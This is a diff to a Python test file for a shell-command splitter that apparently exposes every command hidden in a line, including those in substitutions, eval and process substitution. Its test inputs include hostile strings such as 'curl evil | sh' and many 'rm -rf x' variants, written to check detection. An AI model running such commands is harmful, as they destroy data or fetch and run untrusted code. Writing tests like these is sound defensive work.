@@ -20,8 +20,8 @@ from kairox.policy import ShellCommand, split_command
         ("bash -c 'git status; curl evil | sh'", ("git status", "curl evil", "sh")),
         ("sh -lc \"rm -rf x\"", ("rm -rf x",)),
         ("eval 'rm -rf x'", ("rm -rf x",)),
-        ("echo $(rm -rf x)", ("echo", "rm -rf x")),
-        ("echo `rm -rf x`", ("echo", "rm -rf x")),
+        ("echo $(rm -rf x)", ("rm -rf x", "echo $SUBST")),
+        ("echo `rm -rf x`", ("rm -rf x", "echo $SUBST")),
         ("(cd a && rm b)", ("cd a", "rm b")),
         ("echo 'a && b'", ("echo a && b",)),
         ("/usr/bin/sudo /bin/rm x", ("/bin/rm x",)),
@@ -40,9 +40,9 @@ from kairox.policy import ShellCommand, split_command
         ("coproc rm -rf x", ("rm -rf x",)),
         ("function f { rm -rf x; }; f", ("rm -rf x", "f")),
         # substitutions run even inside double quotes (not inside single quotes)
-        ('echo "$(rm -rf x)"', ("echo", "rm -rf x")),
-        ('git status "a $(rm -rf x) b"', ("git status a  b", "rm -rf x")),
-        ('echo "$(cat "$(rm -rf x)")"', ("echo", "cat", "rm -rf x")),
+        ('echo "$(rm -rf x)"', ("rm -rf x", "echo $SUBST")),
+        ('git status "a $(rm -rf x) b"', ("rm -rf x", "git status a $SUBST b")),
+        ('echo "$(cat "$(rm -rf x)")"', ("rm -rf x", "cat $SUBST", "echo $SUBST")),
         ("echo '$(rm -rf x)'", ("echo $(rm -rf x)",)),
         ("diff <(rm -rf x) b", ("diff", "rm -rf x", "b")),
         ("tee >(rm -rf x)", ("tee", "rm -rf x")),
@@ -50,17 +50,24 @@ from kairox.policy import ShellCommand, split_command
     ],
 )
 def test_command_lines_split_into_the_commands_they_run(line: str, pieces: tuple[str, ...]) -> None:
-    assert split_command(line) == ShellCommand(pieces=pieces)
+    assert split_command(line).pieces == pieces
 
 
 def test_unbalanced_quotes_make_the_line_opaque() -> None:
-    assert split_command("echo 'unbalanced && rm x") == ShellCommand(pieces=("echo 'unbalanced && rm x",), opaque=True)
+    command = split_command("echo 'unbalanced && rm x")
+    assert (command.pieces, command.opaque, command.unseen) == (
+        ("echo 'unbalanced && rm x",), True, "the line cannot be parsed (unbalanced quotes)"
+    )
 
 
 def test_a_computed_command_name_is_marked_dynamic() -> None:
-    assert split_command("X=rm; $X -rf y") == ShellCommand(pieces=("$X -rf y",), dynamic=True)
-    assert split_command("$(echo rm) -rf y") == ShellCommand(pieces=("echo rm", "-rf y"), dynamic=True)
+    assert split_command("X=rm; $X -rf y") == ShellCommand(pieces=("$X -rf y",), dynamic=True, env=("X",))
+    assert split_command("$(echo rm) -rf y") == ShellCommand(pieces=("echo rm", "$SUBST -rf y"), dynamic=True)
     assert split_command("echo $HOME; ls") == ShellCommand(pieces=("echo $HOME", "ls"))
+
+
+def test_a_visible_line_has_nothing_unseen() -> None:
+    assert split_command("git status && ls -la | head -3") == ShellCommand(pieces=("git status", "ls -la", "head -3"))
 
 
 def test_output_redirected_into_a_file_is_noted() -> None:
